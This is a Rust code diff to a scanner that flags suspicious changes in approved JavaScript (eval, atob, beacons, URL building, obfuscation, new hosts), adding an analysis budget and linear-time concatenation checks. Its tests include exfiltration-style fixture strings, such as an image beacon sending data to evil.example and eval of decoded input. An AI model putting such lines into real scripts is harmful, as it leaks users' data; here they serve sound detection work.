@@ -6,10 +6,13 @@
 //! obfuscation (very long string arrays, hex escapes). A hint is given for each feature the
 //! current version uses more often than the approved one, so code that was already approved
 //! gives no hint. The URLs, hosts and domains that appear in the current version's strings but
-//! not in the approved one's are listed too. Code that does not parse is scanned as text.
+//! not in the approved one's are listed too. Code that does not parse is scanned as text, and
+//! so is code outside the analysis budget (`inventory::budget`): then a hint says why, since
+//! that code is also compared byte for byte.
 //!
 //! Hints only ever raise a finding's severity (see `compare`); their absence never lowers it.
 
+use crate::inventory::budget::{self, Refusal};
 use crate::inventory::normalize::{hosts_in, names_url_or_host};
 use oxc_allocator::Allocator;
 use oxc_ast::ast::{
@@ -20,7 +23,7 @@ use oxc_ast_visit::{walk, Visit};
 use oxc_parser::Parser;
 use oxc_span::SourceType;
 use regex::Regex;
-use std::collections::BTreeSet;
+use std::collections::{BTreeSet, HashMap};
 use std::sync::OnceLock;
 
 /// A string array at least this long is obfuscation (packers keep every string in one array).
@@ -62,6 +65,9 @@ pub fn analyze(approved: Option<&str>, current: &str) -> Analysis {
     hint(new.built_urls > old.built_urls, "builds a URL by string concatenation");
     hint(new.long_string_arrays > old.long_string_arrays, "obfuscated: very long string array");
     hint(new.hex_escapes >= old.hex_escapes + MANY_HEX_ESCAPES, "obfuscated: many hex escapes");
+    if let Some(refusal) = new.refused {
+        hints.push(refusal.to_string());
+    }
 
     let added_hosts: Vec<String> = new.hosts.difference(&old.hosts).take(MAX_LISTED).cloned().collect();
     let added_urls: Vec<String> = new.urls.difference(&old.urls).take(MAX_LISTED).cloned().collect();
@@ -83,6 +89,11 @@ struct Features {
     hex_escapes: usize,
     hosts: BTreeSet<String>,
     urls: BTreeSet<String>,
+    /// Why the code was scanned as text rather than parsed, when it was outside the budget.
+    refused: Option<Refusal>,
+    /// `is_string_like` / `has_non_literal` of the `+` expressions seen, by span: a chain of
+    /// `+` is asked about at every level, which would be quadratic.
+    concat: HashMap<(u32, u32), (Option<bool>, bool)>,
 }
 
 fn url_re() -> &'static Regex {
@@ -101,17 +112,86 @@ impl Features {
         for m in url_re().find_iter(source) {
             f.add_urls_and_hosts(m.as_str());
         }
+        match budget::run(source, Features::parsed) {
+            Ok(Some(parsed)) => f.merge(parsed),
+            Ok(None) => f.text_fallback(source),
+            Err(refusal) => {
+                f.refused = Some(refusal);
+                f.text_fallback(source);
+            }
+        }
+        f
+    }
+
+    /// The features oxc finds, or `None` when the code does not parse. Only on admitted code.
+    fn parsed(source: &str) -> Option<Features> {
         let allocator = Allocator::default();
         for source_type in [SourceType::cjs(), SourceType::mjs()] {
             let parsed = Parser::new(&allocator, source, source_type).parse();
             if parsed.panicked || !parsed.diagnostics.is_empty() {
                 continue;
             }
+            let mut f = Features::default();
             f.visit_program(&parsed.program);
-            return f;
+            f.concat = HashMap::new();
+            return Some(f);
         }
-        f.text_fallback(source);
-        f
+        None
+    }
+
+    /// Adds what the syntax walk found to what the text scan found.
+    fn merge(&mut self, walked: Features) {
+        let Features {
+            eval,
+            function_ctor,
+            atob,
+            forms,
+            value_reads,
+            websocket,
+            beacon,
+            image_src,
+            built_urls,
+            long_string_arrays,
+            hosts,
+            urls,
+            ..
+        } = walked;
+        self.eval = eval;
+        self.function_ctor = function_ctor;
+        self.atob = atob;
+        self.forms = forms;
+        self.value_reads = value_reads;
+        self.websocket = websocket;
+        self.beacon = beacon;
+        self.image_src = image_src;
+        self.built_urls = built_urls;
+        self.long_string_arrays = long_string_arrays;
+        self.hosts.extend(hosts);
+        self.urls.extend(urls);
+    }
+
+    /// `(is_string_like, has_non_literal)` of a `+` expression, remembered by span.
+    fn concat_of(&mut self, e: &Expression<'_>) -> (Option<bool>, bool) {
+        let Expression::BinaryExpression(b) = e else {
+            return (is_string_like(e, &mut |x| self.concat_of(x).0), has_non_literal(e, &mut |x| self.concat_of(x).1));
+        };
+        let key = (b.span.start, b.span.end);
+        if let Some(&known) = self.concat.get(&key) {
+            return known;
+        }
+        let (l, r) = (self.concat_of(&b.left), self.concat_of(&b.right));
+        let string_like = if b.operator == BinaryOperator::Addition {
+            match (l.0, r.0) {
+                (Some(a), Some(b)) => Some(a || b),
+                (Some(a), None) | (None, Some(a)) => Some(a),
+                (None, None) => None,
+            }
+        } else {
+            None
+        };
+        let out = (string_like, l.1 || r.1);
+        self.concat.insert(key, out);
+        out
     }
 
     /// For code that does not parse: the same features, counted in the text.
@@ -150,26 +230,23 @@ fn is_name(e: &Expression<'_>, name: &str) -> bool {
     }
 }
 
-fn is_string_like(e: &Expression<'_>) -> Option<bool> {
+/// Whether `e` is a string (or a concatenation with one), and whether one names a URL or host.
+/// `binary` answers for nested binary expressions (see `Features::concat_of`).
+fn is_string_like(e: &Expression<'_>, binary: &mut dyn FnMut(&Expression<'_>) -> Option<bool>) -> Option<bool> {
     match e {
         Expression::StringLiteral(s) => Some(names_url_or_host(&s.value)),
         Expression::TemplateLiteral(t) => Some(t.quasis.iter().any(|q| names_url_or_host(&q.value.raw))),
-        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
-            match (is_string_like(&b.left), is_string_like(&b.right)) {
-                (Some(a), Some(b)) => Some(a || b),
-                (Some(a), None) | (None, Some(a)) => Some(a),
-                (None, None) => None,
-            }
-        }
+        Expression::BinaryExpression(_) => binary(e),
         _ => None,
     }
 }
 
-fn has_non_literal(e: &Expression<'_>) -> bool {
+/// Whether `e` has anything but string and number literals in it.
+fn has_non_literal(e: &Expression<'_>, binary: &mut dyn FnMut(&Expression<'_>) -> bool) -> bool {
     match e {
         Expression::StringLiteral(_) | Expression::NumericLiteral(_) => false,
-        Expression::BinaryExpression(b) => has_non_literal(&b.left) || has_non_literal(&b.right),
-        Expression::ParenthesizedExpression(p) => has_non_literal(&p.expression),
+        Expression::BinaryExpression(_) => binary(e),
+        Expression::ParenthesizedExpression(p) => has_non_literal(&p.expression, binary),
         _ => true,
     }
 }
@@ -225,8 +302,9 @@ impl<'a> Visit<'a> for Features {
 
     fn visit_binary_expression(&mut self, it: &BinaryExpression<'a>) {
         if it.operator == BinaryOperator::Addition {
-            let url_part = is_string_like(&it.left) == Some(true) || is_string_like(&it.right) == Some(true);
-            if url_part && (has_non_literal(&it.left) || has_non_literal(&it.right)) {
+            let (left, right) = (self.concat_of(&it.left), self.concat_of(&it.right));
+            let url_part = left.0 == Some(true) || right.0 == Some(true);
+            if url_part && (left.1 || right.1) {
                 self.built_urls += 1;
             }
         }
@@ -308,5 +386,43 @@ mod tests {
         let a = analyze(Some("x("), "x( eval(atob('x')) evil.example");
         assert!(a.hints.iter().any(|h| h.contains("eval")));
         assert_eq!(a.added_hosts, vec!["evil.example"]);
+    }
+
+    #[test]
+    fn hostile_scripts_get_a_hint_not_a_crash() {
+        for (name, src) in crate::inventory::budget::hostile_inputs() {
+            let started = std::time::Instant::now();
+            let a = analyze(None, &src);
+            assert!(
+                a.hints
+                    .iter()
+                    .any(|h| h.contains("too deeply nested to analyse") && h.contains("compared byte for byte")),
+                "{name}: {:?}",
+                a.hints
+            );
+            let a = analyze(Some("var x = 1;"), &src);
+            assert!(a.hints.iter().any(|h| h.contains("too deeply nested")), "{name}: {:?}", a.hints);
+            assert!(started.elapsed() < std::time::Duration::from_secs(2), "{name}: {:?}", started.elapsed());
+        }
+        // What can still be told from the text is still told.
+        let src = format!("eval(x);new Image().src='https://evil.example/'+d;{}", "[".repeat(5000));
+        let a = analyze(None, &src);
+        assert!(a.hints.iter().any(|h| h.contains("eval")), "{:?}", a.hints);
+        assert_eq!(a.added_hosts, vec!["evil.example"]);
+    }
+
+    #[test]
+    fn odd_scripts_do_not_crash() {
+        for (name, src) in crate::inventory::budget::odd_inputs() {
+            let _ = analyze(Some(&src), &src);
+            eprintln!("{name}: ok");
+        }
+        // A long but shallow concatenation chain is analysed, in linear time.
+        let chain: String = (0..400).map(|i| format!("+'https://x{i}.example/'+d")).collect();
+        let src = format!("var u=''{chain};").repeat(100);
+        let started = std::time::Instant::now();
+        let a = analyze(None, &src);
+        assert!(a.hints.iter().any(|h| h.contains("builds a URL")), "{:?}", a.hints);
+        assert!(started.elapsed() < std::time::Duration::from_secs(2), "{:?}", started.elapsed());
     }
 }
